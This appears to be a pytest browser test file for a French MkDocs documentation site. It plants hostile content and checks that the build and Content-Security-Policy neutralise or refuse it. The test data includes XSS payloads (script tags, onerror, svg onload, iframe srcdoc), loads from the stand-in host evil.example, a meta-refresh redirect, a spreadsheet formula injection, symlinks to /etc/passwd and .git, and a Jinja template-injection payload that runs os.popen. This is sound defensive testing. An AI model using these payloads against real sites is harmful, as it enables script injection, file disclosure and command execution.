"""Issue 23's corpus in the browser: one shared build of the project with hostile content that
the site accepts but must neutralise (scripts anywhere in a page's Markdown, markup and formulas
in data, a text full of signes at the length bound), opened in Chromium: no script from the
content runs (`window.__pwned` stays unset), no request leaves the origin, the theme's own
scripts run. What the site refuses instead (links, HTML and SVG files, meta refresh, markup in
a title, Jinja beyond the site's macros, reserved names, odd files) ends in a French message naming the file: one failed build
here, each case at the loader's level in tests/data/test_hostile.py."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from conftest import VIOLATIONS, build_ok, copy_project, run_build

pytestmark = pytest.mark.slow

PAGE = "essai-hostile"
TOOL = "outil-hostile"
# Every way a page's Markdown can carry a script or reach another origin; none may work.
HOSTILE_PAGE = """# Essai hostile

Texte ordinaire.

</article><script>window.__pwned = "after </article>"</script><article>

<nav><script>window.__pwned = "in a nav"</script></nav>

<img src="x" alt="" onerror="window.__pwned = 'onerror'">

<svg><script>window.__pwned = "svg script"</script><rect onload="window.__pwned = 'svg onload'"/></svg>

<iframe srcdoc="<script>parent.__pwned = 'srcdoc'</script>"></iframe>

<object data="data:text/html,<script>parent.__pwned='object'</script>"></object>

<img src="https://evil.example/pixel.png" alt="">

<iframe src="https://evil.example/frame.html" title="x"></iframe>

<video src="https://evil.example/v.mp4" poster="https://evil.example/poster.png"></video>

<p style="background: url(https://evil.example/bg.png)">Fond</p>

<base href="https://evil.example/">

<link rel="stylesheet" href="https://evil.example/style.css">

<style>@import url(https://evil.example/import.css);</style>

<script src="https://evil.example/remote.js"></script>

<script>document.documentElement.classList.add("psds-js");window.__pwned = "theme-like"</script>

<script>__md_scope=new URL("https://evil.example/",location)</script>

<details open><summary>Plus</summary><script>window.__pwned = "details"</script></details>
"""
TITLE = '=HYPERLINK("https://evil.example/") zorglub </article><script>window.__pwned = "title"</script>'
HEAVY = "<&>#" * 500  # 2,000 characters: the bound of a text


def _hostile_tool(tools: Path) -> None:
    source = next(path for path in sorted(tools.glob("*.yml"))
                  if "\nnotes:" not in path.read_text(encoding="utf-8"))
    text = re.sub(r"\ntitle:\n  fr: .*\n(  en: .*\n)?", "\ntitle:\n  fr: '" + TITLE.replace("'", "''")
                  + "'\n", source.read_text(encoding="utf-8"), count=1)
    (tools / f"{TOOL}.yml").write_text(text.rstrip("\n") + f"\nnotes:\n  fr: '{HEAVY}'\n", encoding="utf-8")


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    project = copy_project(tmp_path_factory.mktemp("hostile-site"))
    (project / "docs" / f"{PAGE}.md").write_text(HOSTILE_PAGE, encoding="utf-8")
    config = project / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace(
        "  /outils/*.md\n", f"  /outils/*.md\n  /{PAGE}.md\n"), encoding="utf-8")
    _hostile_tool(project / "resources" / "tools")
    return build_ok(project)


def test_the_build_neutralises_what_it_accepts(hostile_site):
    from bs4 import BeautifulSoup

    html = (hostile_site / PAGE / "index.html").read_text(encoding="utf-8")
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"', html)[1]
    hostile = [s.string for s in BeautifulSoup(html, "html.parser").find_all("script")
               if s.string and ("__pwned" in s.string or "evil.example" in s.string)]
    assert len(hostile) >= 6
    # Not one of the page's scripts is allowed, even one that looks like the theme's.
    assert not [body for body in hostile if _hash(body) in policy]
    assert policy.count("'sha256-") >= 3  # the theme's own
    for path in (f"outils/{TOOL}", f"en/outils/{TOOL}", "outils"):
        soup = BeautifulSoup((hostile_site / path / "index.html").read_text(encoding="utf-8"), "html.parser")
        assert not [s for s in soup.find_all("script") if "__pwned" in (s.string or "")], path
        assert not soup.find_all(attrs={"onerror": True})
    # The data's markup is shown as text, in the page and in its header.
    soup = BeautifulSoup((hostile_site / "outils" / TOOL / "index.html").read_text(encoding="utf-8"),
                         "html.parser")
    assert soup.find("h1").get_text(strip=True).startswith("=HYPERLINK(")
    assert "</article><script>" in soup.select_one(".md-header__topic:last-child").get_text()
    # The open data: the formula is text for a spreadsheet.
    rows = list(csv.DictReader(io.StringIO((hostile_site / "outils" / "catalogue.csv").read_text())))
    [row] = [row for row in rows if row["id"] == TOOL]
    assert row["title_fr"] == "'" + TITLE


def _hash(script: str) -> str:
    import base64
    import hashlib

    return "sha256-" + base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()


@pytest.mark.browser
def test_no_script_of_the_content_runs_and_nothing_leaves_the_origin(chromium, hostile_site, serve_folder):
    base = serve_folder(hostile_site)
    context = chromium.new_context()
    context.add_init_script(VIOLATIONS)
    page = context.new_page()
    # What reaches the network layer (a request the policy blocks never does); off-origin is aborted.
    left, violations = [], []

    def off_origin(route):
        left.append(route.request.url)
        route.abort()

    context.route(lambda url: not url.startswith(base + "/"), off_origin)
    page.on("console", lambda msg: violations.append(msg.text) if "CSP violation" in msg.text else None)
    for path in (f"/{PAGE}/", f"/outils/{TOOL}/", "/outils/", f"/en/outils/{TOOL}/", "/"):
        page.goto(base + path)
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.__pwned") is None, path
        for frame in page.frames:
            assert frame.evaluate("window.__pwned") is None, (path, frame.url)
        # The theme's own inline scripts ran (allowed by their hash).
        assert page.evaluate("typeof __md_scope") == "object", path
    # Search shows the data's title as text (Material writes a result's title and tags as HTML).
    page.goto(f"{base}/outils/")
    page.locator(".md-search__input").click()
    page.keyboard.type("zorglub", delay=20)
    result = page.locator(".md-search-result__item").first
    result.wait_for(timeout=15000)
    assert "</article><script>" in result.inner_text()
    assert page.locator(".md-search-result script").count() == 0
    assert page.evaluate("window.__pwned") is None
    context.close()
    assert left == []
    assert any("script-src" in text for text in violations), violations


def test_what_the_site_refuses_ends_in_one_french_message_naming_each_file(tmp_path):
    project = copy_project(tmp_path / "project")
    docs = project / "docs"
    (docs / "config.txt").symlink_to(Path(__file__).resolve().parents[2] / ".git")
    (docs / "mot-de-passe.md").symlink_to("/etc/passwd")
    (docs / "page.html").write_text("<script>window.__pwned = 1</script>", encoding="utf-8")
    (docs / "assets" / "images" / "dessin.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned = 1"/>', encoding="utf-8")
    (docs / "redirige.md").write_text('# R\n\n<meta http-equiv="refresh" content="0;url=https://evil.example">\n',
                                      encoding="utf-8")
    (docs / "titre.md").write_text("---\r\ntitle: <img src=x onerror=alert(1)>\r\n---\r\n# T\r\n", encoding="utf-8")
    (docs / "jinja.md").write_text("# J\n\n{{ cycler.__init__.__globals__.os.popen('id').read() }}\n",
                                   encoding="utf-8")
    result = run_build(project)
    output = result.stdout + result.stderr
    assert result.returncode == 1 and "Traceback" not in output
    for name in ("docs/config.txt", "docs/mot-de-passe.md", "docs/page.html", "docs/assets/images/dessin.svg",
                 "docs/redirige.md", "docs/titre.md", "docs/jinja.md"):
        assert f"  - {name}" in output, (name, output)
    assert not (project / "site").exists()
